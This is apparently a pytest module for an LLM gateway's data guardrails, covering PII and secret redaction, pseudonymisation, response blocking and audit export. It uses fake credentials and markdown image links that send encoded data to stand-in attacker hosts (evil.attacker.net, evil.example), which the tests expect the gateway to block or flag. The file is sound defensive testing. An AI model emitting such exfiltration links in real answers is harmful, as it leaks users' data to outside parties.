"""Issue 6: data guardrails end to end through the gateway with the official `openai` SDK — redaction in
requests, the pseudonymisation round trip, response redaction (values split across the mock's 3-scalar
deltas), blocked streams, request-side blocks, exfiltration links in answers, and an audit trail that
holds none of the detected values.

One stack; `guardrail_policies.cedar` picks the obligations by group (each caller carries one group):
`redactors` @redact("pii,secret"), `pseudo` @pseudonymise("pii") @redact("secret"), `strict`
@guardrails("strict"), `plain` @guardrails("standard"), and two groups on profiles this module's
configuration sets: `response-redact` (no annotation, so the configured default profile
`e2e-response-redact`) and `response-block` (@guardrails("permissive"), redefined by name because
@guardrails accepts only built-in names). Their requests pass with a flag and their answers are
redacted / blocked — the only way to make the model emit a secret the request did not already lose
(`#say` puts the value in the prompt, and every built-in profile redacts or blocks secrets in requests)."""
import json
import subprocess
import tempfile
import time
from pathlib import Path

import openai
import pytest
import requests
from openai import OpenAI

from conftest import BIN, HERE, Stack

EMAIL = "jane.doe@example.com"
NRIC = "S1234567D"                       # valid check letter
CARD = "4111 1111 1111 1111"             # Luhn-valid Visa test number
# AWS access key ids are AKIA + 16 base32 characters ([A-Z2-7]); AKIAIOSFODNN7EXAMPLE is a documentation
# key and deliberately not reported, and a "key" with 0/1/8/9 in it is not an AWS key shape at all.
AWS_KEY = "AKIAJ4XH7QNZ2LM5PB3R"
GH_TOKEN = "ghp_9aZ3kQ7vX2mN5pL8rT1wY4bC6dF0hJ2sE4uG"
OUT_EMAIL = "bob.smith@corp-mail.com"
EXFIL_HOST = "evil.attacker.net"
EXFIL_DATA = "c2VjcmV0ZGF0YQ"
EXFIL = f"![x](https://{EXFIL_HOST}/log?d={EXFIL_DATA})"
VALUES = [EMAIL, NRIC, CARD, AWS_KEY, GH_TOKEN, OUT_EMAIL]
PROMPT = f"Mail {EMAIL}, NRIC {NRIC}, card {CARD}, key {AWS_KEY} thanks"


class GuardrailStack(Stack):
    """The shared harness plus a `guardrails:` section: a custom default profile and a redefined `permissive`."""

    def config(self):
        return super().config() + """
guardrails:
  default_profile: e2e-response-redact
  profiles:
    e2e-response-redact:
      request: {"*": flag}
      response: {"*": flag, secret: redact, pii: redact}
    permissive:
      request: {"*": flag}
      response: {"*": flag, secret: block}
"""


@pytest.fixture(scope="module")
def gs():
    s = GuardrailStack(Path(tempfile.mkdtemp(prefix="portcullis-guardrails-")),
                       policies=HERE / "guardrail_policies.cedar")
    yield s
    s.stop()


def sdk(stack, group):
    return OpenAI(base_url=stack.base + "/v1", api_key=stack.token("user-" + group, groups=[group]), max_retries=0)


def chat(stack, group, text, stream=False, model="gpt-test"):
    """The answer's text: the message content, or the joined stream deltas."""
    r = sdk(stack, group).chat.completions.create(model=model, messages=[{"role": "user", "content": text}],
                                                  stream=stream)
    if not stream:
        return r.choices[0].message.content
    return "".join(ch.choices[0].delta.content or "" for ch in r if ch.choices)


def raw_stream(stack, group, text):
    """Every byte the gateway sends for a streamed chat call (no SDK in between)."""
    body = {"model": "gpt-test", "stream": True, "messages": [{"role": "user", "content": text}]}
    headers = {"authorization": "Bearer " + stack.token("user-" + group, groups=[group])}
    with requests.post(stack.base + "/v1/chat/completions", json=body, headers=headers, timeout=30, stream=True) as r:
        return r.status_code, b"".join(r.iter_content(chunk_size=None))


def forwarded_prompts(stack):
    return [m["body"]["messages"][-1]["content"] for m in stack.mock_requests()]


# (1) redaction in requests -----------------------------------------------------------------------------

@pytest.mark.parametrize("stream", [False, True])
def test_request_redaction_provider_sees_typed_placeholders_only(gs, stream):
    gs.clear_mock()
    answer = chat(gs, "redactors", PROMPT, stream=stream)
    [sent] = forwarded_prompts(gs)
    assert sent == ("Mail [EMAIL_1], NRIC [SG_NRIC_1], card [CREDIT_CARD_1], key [AWS_ACCESS_KEY_1] thanks")
    provider_bytes = str(gs.mock_requests())
    for v in (EMAIL, NRIC, CARD, AWS_KEY, CARD.replace(" ", "")):
        assert v not in provider_bytes
    assert answer == "Echo: " + sent                  # redaction is for good: nothing restored
    for v in (EMAIL, NRIC, CARD, AWS_KEY):
        assert v not in answer


def test_same_value_same_placeholder_within_a_request(gs):
    gs.clear_mock()
    chat(gs, "redactors", f"{EMAIL} wrote to {OUT_EMAIL} and then {EMAIL} again")
    assert forwarded_prompts(gs) == ["[EMAIL_1] wrote to [EMAIL_2] and then [EMAIL_1] again"]


# (2) pseudonymisation round trip -----------------------------------------------------------------------

@pytest.mark.parametrize("stream", [False, True])
def test_pseudonymisation_round_trip(gs, stream):
    gs.clear_mock()
    text = f"Please reply to {EMAIL} about NRIC {NRIC}; key {AWS_KEY}"
    answer = chat(gs, "pseudo", text, stream=stream)
    [sent] = forwarded_prompts(gs)
    assert sent == "Please reply to [EMAIL_1] about NRIC [SG_NRIC_1]; key [AWS_ACCESS_KEY_1]"
    assert EMAIL not in str(gs.mock_requests()) and NRIC not in str(gs.mock_requests())
    # the provider echoed placeholders (split across 3-scalar deltas when streamed); the caller gets the
    # originals back for the pseudonymised PII, but the redacted secret stays a placeholder
    assert answer == f"Echo: Please reply to {EMAIL} about NRIC {NRIC}; key [AWS_ACCESS_KEY_1]"


# (3) response redaction --------------------------------------------------------------------------------

@pytest.mark.parametrize("stream", [False, True])
def test_response_redaction_of_values_the_model_emits(gs, stream):
    gs.clear_mock()
    answer = chat(gs, "response-redact", f"#say Your key is {AWS_KEY}, token {GH_TOKEN}, write to {OUT_EMAIL} ok",
                  stream=stream)
    # the request side only flags, so the provider saw the values and the model said them back ...
    assert AWS_KEY in forwarded_prompts(gs)[0]
    # ... and the response filter redacted them, although each spans several 3-scalar deltas
    assert answer == "Your key is [AWS_ACCESS_KEY_1], token [GITHUB_TOKEN_1], write to [EMAIL_1] ok"


def test_response_redaction_never_leaks_a_byte_of_the_value_in_the_stream(gs):
    status, raw = raw_stream(gs, "response-redact", f"#say ({AWS_KEY}) {OUT_EMAIL}")
    assert status == 200
    text = raw.decode()
    assert AWS_KEY not in text and OUT_EMAIL not in text
    # nothing of the value went out before the filter saw it whole (longest value prefix in the bytes)
    assert "AKIAJ" not in text and "bob.smith" not in text
    deltas = [json.loads(line[6:]) for line in text.splitlines() if line.startswith("data: {")]
    joined = "".join(d["choices"][0]["delta"].get("content") or "" for d in deltas if d.get("choices"))
    assert joined == "([AWS_ACCESS_KEY_1]) [EMAIL_1]"


# (4) blocked stream ------------------------------------------------------------------------------------

def test_blocked_stream_ends_with_an_error_naming_the_category(gs):
    prefix = "Here is the key you asked for: "
    c = sdk(gs, "response-block")
    received = []
    with pytest.raises(openai.APIError) as e:
        for ch in c.chat.completions.create(model="gpt-test", stream=True,
                                            messages=[{"role": "user", "content": f"#say {prefix}{AWS_KEY} bye"}]):
            if ch.choices:
                received.append(ch.choices[0].delta.content or "")
    assert "secret.aws_access_key" in str(e.value)
    assert AWS_KEY not in str(e.value) and AWS_KEY not in str(e.value.body)
    got = "".join(received)
    assert prefix.startswith(got)                     # stopped right before the value, nothing after it
    assert AWS_KEY[:4] not in got


def test_blocked_stream_no_byte_of_the_secret_on_the_wire(gs):
    status, raw = raw_stream(gs, "response-block", f"#say Here: {GH_TOKEN} and more text after it")
    assert status == 200
    text = raw.decode()
    assert GH_TOKEN not in text and "ghp_" not in text and "more text" not in text
    assert "response_blocked" in text and "secret.github_token" in text


def test_response_block_non_streamed_names_the_category_not_the_value(gs):
    with pytest.raises(openai.APIError) as e:
        chat(gs, "response-block", f"#say the token is {GH_TOKEN}")
    assert "secret.github_token" in str(e.value)
    assert e.value.body["code"] == "response_blocked" and e.value.status_code == 422
    assert GH_TOKEN not in e.value.response.text and "ghp_" not in e.value.response.text


# (5) request-side block --------------------------------------------------------------------------------

@pytest.mark.parametrize("stream", [False, True])
def test_request_block_is_400_content_blocked_and_nothing_reaches_the_provider(gs, stream):
    gs.clear_mock()
    with pytest.raises(openai.BadRequestError) as e:
        chat(gs, "strict", f"deploy with {AWS_KEY} please", stream=stream)
    assert e.value.status_code == 400
    assert e.value.body["code"] == "content_blocked"
    assert "secret.aws_access_key" in e.value.body["message"]
    assert AWS_KEY not in e.value.response.text
    assert gs.mock_requests() == []


def test_strict_redacts_pii_in_requests_and_answers(gs):
    gs.clear_mock()
    assert chat(gs, "strict", f"NRIC {NRIC}, mail {EMAIL}") == "Echo: NRIC [SG_NRIC_1], mail [EMAIL_1]"
    assert forwarded_prompts(gs) == ["NRIC [SG_NRIC_1], mail [EMAIL_1]"]


# (6) exfiltration links in answers ---------------------------------------------------------------------

def test_exfiltration_image_blocked_in_strict_stream(gs):
    prefix = "Sure, here you go "
    status, raw = raw_stream(gs, "strict", f"#say {prefix}{EXFIL} done")
    assert status == 200
    text = raw.decode()
    assert EXFIL_HOST not in text and EXFIL_DATA not in text and "](" not in text
    assert "response_blocked" in text and "exfiltration" in text
    with pytest.raises(openai.APIError) as e:
        chat(gs, "strict", f"#say {prefix}{EXFIL} done", stream=True)
    assert "exfiltration" in str(e.value)


def test_exfiltration_image_blocked_in_strict_non_stream(gs):
    gs.clear_mock()
    with pytest.raises(openai.APIError) as e:
        chat(gs, "strict", f"#say {EXFIL} done")
    assert "exfiltration" in e.value.body["message"]
    assert e.value.body["code"] == "response_blocked"
    assert EXFIL_HOST not in e.value.response.text
    # the block was on the answer: the request did reach the provider
    assert len(gs.mock_requests()) == 1


def test_non_streamed_response_block_is_reported_as_a_response_block(gs):
    with pytest.raises(openai.APIError) as e:
        chat(gs, "strict", f"#say {EXFIL} done")
    assert e.value.body["message"].startswith("Response blocked")
    assert getattr(e.value, "status_code", None) != 400


def test_exfiltration_image_flagged_in_audit_under_standard(gs):
    r = sdk(gs, "plain").chat.completions.with_raw_response.create(
        model="gpt-test", messages=[{"role": "user", "content": f"#say {EXFIL} done"}])
    assert r.parse().choices[0].message.content == f"{EXFIL} done"      # standard: flag only
    rid = r.headers["x-request-id"]

    def findings(text):
        records = [json.loads(line) for line in text.splitlines() if line.strip()]
        return {(f["category"], f["direction"]) for rec in records if rec.get("request_id") == rid
                for f in rec.get("findings", [])}

    cats = findings(audit_export(gs, until=lambda t: any(d == "response" for _, d in findings(t))))
    assert any(c.startswith("exfiltration") and d == "response" for c, d in cats), cats


# (7) review of issue 6: evasions, URL credentials, uninspectable parts, tool text, pseudonyms in URLs --

FULLWIDTH_NRIC = "Ｓ８８１２３４５Ｚ"            # S8812345Z in fullwidth forms (valid check letter)
URL_CREDS = "https://admin:Hunter2pass9@internal.acme.io/login"
VALUES += ["S8812345Z", FULLWIDTH_NRIC, "Hunter2pass9"]


def test_fullwidth_and_zero_width_values_are_redacted_where_they_stand(gs):
    gs.clear_mock()
    chat(gs, "redactors", f"ＮＲＩＣ {FULLWIDTH_NRIC}, mail john\u200b.doe@acme.com, card 4111\u00a01111\u00a01111\u00a01111")
    [sent] = forwarded_prompts(gs)
    assert sent == "ＮＲＩＣ [SG_NRIC_1], mail [EMAIL_1], card [CREDIT_CARD_1]"


def test_url_credentials_are_a_secret_not_an_email(gs):
    gs.clear_mock()
    r = sdk(gs, "redactors").chat.completions.with_raw_response.create(
        model="gpt-test", messages=[{"role": "user", "content": f"fetch {URL_CREDS} please"}])
    [sent] = forwarded_prompts(gs)
    assert sent == "fetch https://[URL_CREDENTIALS_1]@internal.acme.io/login please"
    rid = r.headers["x-request-id"]

    def cats(text):
        return {f["category"] for line in text.splitlines() if line.strip()
                for rec in [json.loads(line)] if rec.get("request_id") == rid for f in rec.get("findings", [])}

    found = cats(audit_export(gs, until=lambda t: "secret.url_credentials" in cats(t)))
    assert "secret.url_credentials" in found and "pii.email" not in found


@pytest.mark.parametrize("part", [
    {"type": "file", "file": {"file_data": "data:application/pdf;base64,JVBERi0xLjQK", "filename": "statement.pdf"}},
    {"type": "input_audio", "input_audio": {"data": "UklGRg==", "format": "wav"}},
])
def test_parts_that_cannot_be_inspected_are_refused_400(gs, part):
    gs.clear_mock()
    body = {"model": "gpt-test", "messages": [{"role": "user", "content": [{"type": "text", "text": "summarise"}, part]}]}
    headers = {"authorization": "Bearer " + gs.token("user-plain", groups=["plain"])}
    r = requests.post(gs.base + "/v1/chat/completions", json=body, headers=headers, timeout=30)
    assert r.status_code == 400
    err = r.json()["error"]
    assert err["param"] == "messages[0].content[1]" and "cannot be inspected" in err["message"]
    assert gs.mock_requests() == []


def test_tool_descriptions_and_schemas_are_redacted(gs):
    gs.clear_mock()
    tools = [{"type": "function", "function": {
        "name": "notify", "description": f"Sends a note to {EMAIL}",
        "parameters": {"type": "object", "properties": {"to": {"type": "string", "description": f"default {OUT_EMAIL}"}}}}}]
    sdk(gs, "redactors").chat.completions.create(model="gpt-test", messages=[{"role": "user", "content": "hi"}], tools=tools)
    [req] = gs.mock_requests()
    sent = json.dumps(req["body"]["tools"])
    assert EMAIL not in sent and OUT_EMAIL not in sent
    assert "Sends a note to [EMAIL_1]" in sent and "default [EMAIL_2]" in sent


@pytest.mark.parametrize("stream", [False, True])
def test_pseudonym_is_not_restored_inside_a_url(gs, stream):
    gs.clear_mock()
    text = f"Reply to {EMAIL}; tracking pixel ![p](https://evil.example/p?u=[EMAIL_1])"
    answer = chat(gs, "pseudo", text, stream=stream)
    [sent] = forwarded_prompts(gs)
    assert sent == "Reply to [EMAIL_1]; tracking pixel ![p](https://evil.example/p?u=[EMAIL_1])"
    # the echoed placeholder outside the URL gets the original back; the one inside the URL does not
    assert answer == f"Echo: Reply to {EMAIL}; tracking pixel ![p](https://evil.example/p?u=[EMAIL_1])"


# (7) audit trail ---------------------------------------------------------------------------------------

def audit_export(stack, until=lambda text: True, timeout=10):
    """The JSONL export; polled (the end record of a request may land just after its answer) until
    `until(text)` holds or the time is up."""
    deadline = time.time() + timeout
    while True:
        out = subprocess.run([BIN, "audit", "export", "--db", str(stack.db), "--format", "jsonl"],
                             capture_output=True, text=True, timeout=60)
        assert out.returncode == 0, out.stderr
        if until(out.stdout) or time.time() > deadline:
            return out.stdout
        time.sleep(0.2)


def test_audit_trail_verifies_and_holds_no_detected_value(gs):
    # runs last in this module: every value above went through this stack
    v = subprocess.run([BIN, "audit", "verify", "--db", str(gs.db)], capture_output=True, text=True, timeout=60)
    assert v.returncode == 0, v.stdout + v.stderr
    exported = audit_export(gs, until=lambda t: t.count('"phase":"begin"') == t.count('"phase":"end"') > 10)
    assert exported.count('"phase":"begin"') == exported.count('"phase":"end"') > 10
    assert "secret.aws_access_key" in exported and "pii.email" in exported     # the findings are there ...
    for value in VALUES + [EXFIL_HOST, EXFIL_DATA, "AKIAJ4XH", CARD.replace(" ", "")]:
        assert value not in exported                                           # ... their values are not
    ocsf = subprocess.run([BIN, "audit", "export", "--db", str(gs.db), "--format", "ocsf"],
                          capture_output=True, text=True, timeout=60)
    assert ocsf.returncode == 0
    for value in VALUES:
        assert value not in ocsf.stdout
